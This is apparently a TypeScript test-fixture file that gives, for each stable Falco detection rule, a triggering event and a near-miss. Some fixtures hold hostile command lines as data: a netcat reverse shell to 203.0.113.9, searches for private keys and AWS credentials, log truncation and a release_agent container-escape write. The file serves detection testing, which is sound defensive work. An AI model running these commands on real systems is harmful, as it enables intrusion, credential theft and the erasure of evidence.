/** For each stable rule of Falco's, an event that it is about and one that is nearly that: in Falco's fields, and as ours. */
import type { Container, Event } from '../../schemas/generated/types.gen.ts';

export interface StableCase {
  readonly rule: string;
  readonly fires: Readonly<Record<string, unknown>>;
  /** What is different when it must stay quiet. */
  readonly nearMiss: Readonly<Record<string, unknown>>;
  readonly event: Event;
  readonly nearEvent: Event;
}

/** An ordinary process on the host, for what a line does not say. */
export const fields = {
  'evt.num': 7, 'evt.rawres': 0, 'evt.res': 'SUCCESS', 'proc.name': 'work', 'proc.pname': 'bash', 'proc.exe': 'work', 'proc.exepath': '/usr/bin/work', 'proc.args': '', 'proc.cmdline': 'work',
  'proc.tty': 0, 'proc.cwd': '/root/', 'proc.aname[2]': 'systemd', 'user.name': 'root', 'user.uid': 0, 'container.id': 'host', 'thread.cap_effective': '', 'proc.is_exe_upper_layer': false, 'proc.is_exe_from_memfd': false,
} as const;

const inContainer = { 'container.id': '3ad7b26ded6d', 'container.image.repository': 'docker.io/library/alpine' };
const exec = { 'evt.type': 'execve' };
const read = { 'evt.type': 'openat', 'evt.is_open_read': true, 'fd.typechar': 'f', 'fd.num': 3 };
const write = { 'evt.type': 'openat', 'evt.is_open_write': true, 'fd.typechar': 'f', 'fd.num': 3 };
const connection = { 'evt.type': 'connect', 'fd.typechar': '4', 'fd.l4proto': 'tcp', 'fd.cip': '10.0.0.5', 'fd.sip': '203.0.113.9', 'fd.cport': 40_000, 'fd.sport': 8080 };

const container: Container = {
  id: '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e', runtime: 'docker', name: 'web', image: 'docker.io/library/alpine:3', image_repository: 'docker.io/library/alpine',
  image_tag: '3', privileged: false, mounts: [], started: 1n, pod_name: null, pod_namespace: null, pod_uid: null, unit: null,
};

const CAP_SYS_MODULE = 1n << 16n;
const CAP_SYS_ADMIN = 1n << 21n;

interface Parts {
  readonly process?: object;
  readonly parent?: object;
  readonly ancestors?: readonly object[];
  readonly container?: Container | null;
}

function eventOf(body: object, { process = {}, parent = {}, ancestors = [], container: within = null }: Parts = {}): Event {
  const ordinary = {
    pid: 100, ns_pid: 100, ns_pgid: 100, pgid: 100, sid: 90, tid: 100, ppid: 90, comm: 'work', exe: '/usr/bin/work', args: ['work'], cwd: '/root', tty: null, uid: 0, gid: 0, user: 'root', group: 'root',
    login_uid: null, login_user: null, cap_effective: 0n, cap_permitted: 0n, exe_upper_layer: false, exe_memfd: false, exe_ctime: 1n, exe_mtime: 1n, ...process,
  };
  return {
    ring: 1, seq: 7, time: 1_700_000_000_000_000_000n, process: ordinary, parent: { pid: 90, comm: 'bash', exe: '/bin/bash', args: ['bash'], ...parent },
    ancestors: ancestors.map((each) => ({ pid: 1, comm: 'systemd', exe: '/sbin/init', args: [], ...each })), container: within, truncated: [], body,
  } as unknown as Event;
}

const open = (body: object): object => ({
  kind: 'file_open', syscall: 'openat', result: 3, access: 'read', flags: 0, mode: 0, created: false, filename: '/x', directory: null, path: '/x', path_source: 'kernel', file_type: 'regular', io_uring: false, ...body,
});
const openWrite = (body: object): object => open({ access: 'write', flags: 1, ...body });
const run = (process: object, parts: Parts = {}): Event => eventOf({ kind: 'process_exec', filename: '/x', env: [] }, { ...parts, process });
const change = (body: object): object => ({ kind: 'file_change', result: 0, filename: null, path: null, new_path: null, target: null, flags: 0, mode: null, ...body });
const kernelCall = (body: object): object => ({ kind: 'kernel_call', result: 0, request: 0, request_name: null, name: null, fd: null, remote_ip: null, remote_port: null, ...body });
const network = (body: object): object => ({
  kind: 'network', operation: 'connect', syscall: 'connect', result: 0, family: 'ipv4', socket_type: 'stream', protocol: 6, transport: 'tcp', initiated: true, local_ip: '10.0.0.5', local_port: 40_000,
  remote_ip: '203.0.113.9', remote_port: 8080, source_ip: '10.0.0.5', source_port: 40_000, destination_ip: '203.0.113.9', destination_port: 8080, destination_name: null, path: null, fd: 5, ...body,
});

export const stableCases: readonly StableCase[] = [
  {
    rule: 'Directory traversal monitored file read',
    fires: { ...read, 'fd.name': '/etc/passwd', 'fd.nameraw': '../../../etc/passwd', 'proc.pname': 'java' },
    nearMiss: { 'fd.nameraw': '/etc/passwd' },
    event: eventOf(open({ filename: '../../../etc/passwd', path: '/etc/passwd' }), { parent: { comm: 'java' } }),
    nearEvent: eventOf(open({ filename: '/etc/passwd', path: '/etc/passwd' }), { parent: { comm: 'java' } }),
  },
  {
    rule: 'Read sensitive file trusted after startup',
    fires: { ...read, 'fd.name': '/etc/shadow', 'proc.name': 'nginx', 'proc.duration': 60_000_000_000 },
    nearMiss: { 'proc.duration': 1_000_000_000 },
    event: eventOf(open({ path: '/etc/shadow' }), { process: { comm: 'nginx' } }),
    nearEvent: eventOf(open({ path: '/etc/shadow' }), { process: { comm: 'sshd' } }),
  },
  {
    rule: 'Read sensitive file untrusted',
    fires: { ...read, 'fd.name': '/etc/pam.d/su', 'fd.directory': '/etc/pam.d', 'proc.name': 'cat' },
    nearMiss: { 'proc.name': 'sshd' },
    event: eventOf(open({ path: '/etc/pam.d/su' }), { process: { comm: 'cat' } }),
    nearEvent: eventOf(open({ path: '/etc/pam.d' }), { process: { comm: 'cat' } }),
  },
  {
    rule: 'Run shell untrusted',
    fires: { ...exec, 'proc.name': 'sh', 'proc.cmdline': 'sh -c id', 'proc.pname': 'work', 'proc.aname[2]': 'nginx' },
    nearMiss: { 'proc.pname': 'logrotate' },
    event: run({ comm: 'sh', args: ['sh', '-c', 'id'] }, { parent: { comm: 'work' }, ancestors: [{ comm: 'nginx' }] }),
    nearEvent: run({ comm: 'sh', args: ['sh', '-c', 'serf'] }, { parent: { comm: 'work' }, ancestors: [{ comm: 'make' }] }),
  },
  {
    rule: 'System user interactive',
    fires: { ...exec, 'user.name': 'www-data', 'proc.aname[2]': 'sshd' },
    nearMiss: { 'user.name': 'alice' },
    event: run({ user: 'www-data', uid: 33 }, { ancestors: [{ comm: 'sshd' }] }),
    nearEvent: run({ user: 'www-data', uid: 33 }, { ancestors: [{ comm: 'cron' }] }),
  },
  {
    rule: 'Terminal shell in container',
    fires: { ...exec, ...inContainer, 'proc.name': 'bash', 'proc.tty': 34_816, 'proc.pname': 'runc' },
    nearMiss: { 'proc.tty': 0 },
    event: run({ comm: 'bash', tty: 'pts0' }, { container, parent: { comm: 'runc' } }),
    nearEvent: run({ comm: 'bash', tty: null }, { container, parent: { comm: 'runc' } }),
  },
  {
    rule: 'Contact K8S API Server From Container',
    fires: { ...connection, ...inContainer, 'fd.sip.name': 'kubernetes.default.svc.cluster.local' },
    nearMiss: { 'container.image.repository': 'docker.io/sysdig/sysdig' },
    event: eventOf(network({ destination_name: 'kubernetes.default.svc.cluster.local' }), { container }),
    nearEvent: eventOf(network({ destination_name: 'kubernetes.default.svc.cluster.local' })),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    fires: { ...exec, ...inContainer, 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 80' },
    nearMiss: { 'proc.cmdline': 'nc -l 80' },
    event: run({ comm: 'nc', args: ['nc', '-e', '/bin/sh', '203.0.113.9'] }, { container }),
    nearEvent: run({ comm: 'nc', args: ['nc', '-l', '80'] }, { container }),
  },
  {
    rule: 'Search Private Keys or Passwords',
    fires: { ...exec, 'proc.name': 'find', 'proc.args': '/ -name id_rsa' },
    nearMiss: { 'proc.args': '/ -name index' },
    event: run({ comm: 'grep', args: ['grep', '-r', 'begin rsa private', '/'] }),
    nearEvent: run({ comm: 'grep', args: ['grep', '-r', 'begin', '/'] }),
  },
  {
    rule: 'Clear Log Activities',
    fires: { ...write, 'fd.name': '/var/log/auth.log', 'fd.directory': '/var/log', 'fd.filename': 'auth.log', 'evt.arg.flags': 'O_TRUNC|O_WRONLY' },
    nearMiss: { 'evt.arg.flags': 'O_APPEND|O_WRONLY' },
    event: eventOf(openWrite({ path: '/srv/logs/auth.log', flags: 0o1001 })),
    nearEvent: eventOf(openWrite({ path: '/srv/logs/auth.log', flags: 0o2001 })),
  },
  {
    rule: 'Remove Bulk Data from Disk',
    fires: { ...exec, 'proc.name': 'shred' },
    nearMiss: { 'evt.type': 'openat' },
    event: run({ comm: 'shred' }),
    nearEvent: eventOf(open({}), { process: { comm: 'shred' } }),
  },
  {
    rule: 'Create Symlink Over Sensitive Files',
    fires: { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc/shadow' },
    nearMiss: { 'evt.arg.target': '/etc/hosts' },
    event: eventOf(change({ operation: 'symlink', syscall: 'symlinkat', path: '/tmp/x', target: '/etc' })),
    nearEvent: eventOf(change({ operation: 'symlink', syscall: 'symlinkat', path: '/etc', target: '/tmp/x' })),
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    fires: { 'evt.type': 'link', 'evt.arg.oldpath': '/etc/shadow' },
    nearMiss: { 'evt.type': 'rename' },
    event: eventOf(change({ operation: 'link', syscall: 'linkat', path: '/etc/shadow', new_path: '/tmp/x' })),
    nearEvent: eventOf(change({ operation: 'rename', syscall: 'rename', path: '/etc/shadow', new_path: '/tmp/x' })),
  },
  {
    rule: 'Packet socket created in container',
    fires: { ...inContainer, 'evt.type': 'socket', 'evt.arg.domain': 'AF_PACKET' },
    nearMiss: { 'evt.arg.domain': 'AF_INET' },
    event: eventOf(network({ operation: 'socket', syscall: 'socket', family: 'packet' }), { container }),
    nearEvent: eventOf(network({ operation: 'socket', syscall: 'socket', family: 'ipv4' }), { container }),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    fires: { ...inContainer, 'evt.type': 'dup2', 'evt.rawres': 1, 'fd.type': 'ipv4' },
    nearMiss: { 'evt.rawres': 3 },
    event: eventOf(kernelCall({ operation: 'dup_socket', syscall: 'dup2', result: 1, fd: 1, remote_ip: '203.0.113.9', remote_port: 443 }), { container }),
    nearEvent: eventOf(kernelCall({ operation: 'dup_socket', syscall: 'fcntl', result: 1, fd: 1, remote_ip: '203.0.113.9', remote_port: 443 }), { container }),
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    fires: { ...inContainer, 'evt.type': 'finit_module', 'thread.cap_effective': 'CAP_CHOWN CAP_SYS_MODULE' },
    nearMiss: { 'thread.cap_effective': 'CAP_CHOWN' },
    event: eventOf(kernelCall({ operation: 'finit_module', syscall: 'finit_module' }), { container, process: { cap_effective: CAP_SYS_MODULE } }),
    nearEvent: eventOf(kernelCall({ operation: 'finit_module', syscall: 'finit_module' }), { container, process: { cap_effective: CAP_SYS_ADMIN } }),
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    fires: { ...exec, ...inContainer, 'container.privileged': true, 'proc.name': 'debugfs' },
    nearMiss: { 'container.privileged': false },
    event: run({ comm: 'debugfs' }, { container: { ...container, privileged: true } }),
    nearEvent: run({ comm: 'debugfs' }, { container }),
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    fires: { ...write, ...inContainer, 'fd.name': '/mnt/release_agent', 'thread.cap_effective': 'CAP_SYS_ADMIN' },
    nearMiss: { 'container.id': 'host' },
    event: eventOf(openWrite({ path: '/mnt/release_agent' }), { container, process: { cap_effective: CAP_SYS_ADMIN } }),
    nearEvent: eventOf(open({ path: '/mnt/release_agent' }), { container, process: { cap_effective: CAP_SYS_ADMIN } }),
  },
  {
    rule: 'PTRACE attached to process',
    fires: { 'evt.type': 'ptrace', 'evt.arg.request': 'PTRACE_SEIZE' },
    nearMiss: { 'evt.arg.request': 'PTRACE_CONT' },
    event: eventOf(kernelCall({ operation: 'ptrace', syscall: 'ptrace', request_name: 'PTRACE_ATTACH' })),
    nearEvent: eventOf(kernelCall({ operation: 'ptrace', syscall: 'ptrace', request_name: 'PTRACE_CONT' })),
  },
  {
    rule: 'PTRACE anti-debug attempt',
    fires: { 'evt.type': 'ptrace', 'evt.arg.request': 'PTRACE_TRACEME' },
    nearMiss: { 'evt.type': 'prctl' },
    event: eventOf(kernelCall({ operation: 'ptrace', syscall: 'ptrace', request_name: 'PTRACE_TRACEME' })),
    nearEvent: eventOf(kernelCall({ operation: 'ptrace', syscall: 'ptrace', request_name: 'PTRACE_ATTACH' })),
  },
  {
    rule: 'Find AWS Credentials',
    fires: { ...exec, 'proc.name': 'grep', 'proc.args': '-ri AWS_Secret_Access_Key /home' },
    nearMiss: { 'proc.name': 'cat' },
    event: run({ comm: 'find', args: ['find', '/', '-path', '*/.aws/credentials'] }),
    nearEvent: run({ comm: 'find', args: ['find', '/.aws/credentials', '-ls'] }),
  },
  {
    rule: 'Execution from /dev/shm',
    fires: { ...exec, 'proc.exe': './x', 'proc.cwd': '/dev/shm/a/' },
    nearMiss: { 'proc.cwd': '/dev/shmem/' },
    event: run({ args: ['./x'], cwd: '/dev/shm' }),
    nearEvent: run({ args: ['./x'], cwd: '/dev' }),
  },
  {
    rule: 'Drop and execute new binary in container',
    fires: { ...exec, ...inContainer, 'proc.is_exe_upper_layer': true },
    nearMiss: { 'proc.is_exe_upper_layer': false },
    event: run({ exe_upper_layer: true }, { container }),
    nearEvent: run({ exe_upper_layer: true }),
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    fires: { ...connection, 'proc.exe': '/usr/bin/ssh', 'evt.rawres': -115, 'evt.res': 'EINPROGRESS' },
    nearMiss: { 'fd.sip': '192.168.1.9' },
    event: eventOf(network({ result: -115 }), { process: { args: ['ssh', 'host'] } }),
    nearEvent: eventOf(network({ result: -111 }), { process: { args: ['ssh', 'host'] } }),
  },
  {
    rule: 'Fileless execution via memfd_create',
    fires: { ...exec, 'proc.is_exe_from_memfd': true },
    nearMiss: { 'proc.pname': 'runc' },
    event: run({ exe: '/memfd:x', exe_memfd: true }),
    nearEvent: run({ exe: '/memfd:x', exe_memfd: true, comm: 'runc' }),
  },
];
